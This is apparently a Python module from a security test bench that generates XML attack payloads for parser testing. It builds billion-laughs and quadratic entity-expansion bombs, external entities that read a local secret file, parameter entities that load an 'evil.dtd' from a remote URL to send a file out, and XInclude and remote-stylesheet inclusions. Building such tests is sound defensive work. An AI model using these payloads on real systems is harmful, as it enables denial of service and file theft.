"""XML that grows, or that reaches out, in every kind of package."""

from bench.attacks.attack import Bait, attack, lure
from bench.attacks.hulls import KINDS, saying


def _laughs() -> str:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE r [<!ENTITY l0 "lol">{rows}]>'


def billion_laughs(kind: str) -> bytes:
    """Entities of entities: a kilobyte that would be a terabyte."""
    return saying(kind, "before &l11; after", _laughs())


def quadratic(kind: str) -> bytes:
    """One long entity, many times."""
    return saying(kind, "before " + "&a;" * 50_000, f'<!DOCTYPE r [<!ENTITY a "{"a" * 100_000}">]>')


def external(bait: Bait, kind: str) -> bytes:
    """An entity that is a file of this machine."""
    return saying(kind, "before &x; after", f'<!DOCTYPE r [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>')


def parameter(bait: Bait, kind: str) -> bytes:
    """A document type from elsewhere, and parameter entities that would send a file there."""
    doctype = (
        f'<!DOCTYPE r SYSTEM "{bait.url}/dtd" [<!ENTITY % f SYSTEM "{bait.secret.as_uri()}">'
        f'<!ENTITY % d SYSTEM "{bait.url}/evil.dtd">%d;%f;]>'
    )
    return saying(kind, "before &send; after", doctype)


def included(bait: Bait, kind: str) -> bytes:
    """XInclude and a style sheet from elsewhere."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.secret.as_uri()}" parse="text"/>'
    return saying(kind, f"before {include} after", f'<?xml-stylesheet type="text/xsl" href="{bait.url}/x.xsl"?>')


for _kind in KINDS:
    attack(f"billion-laughs.{_kind}", _kind)(billion_laughs)
    attack(f"quadratic-entity.{_kind}", _kind)(quadratic)
    lure(f"external-entity.{_kind}", _kind)(external)
    lure(f"parameter-entity.{_kind}", _kind)(parameter)
    lure(f"xinclude.{_kind}", _kind)(included)
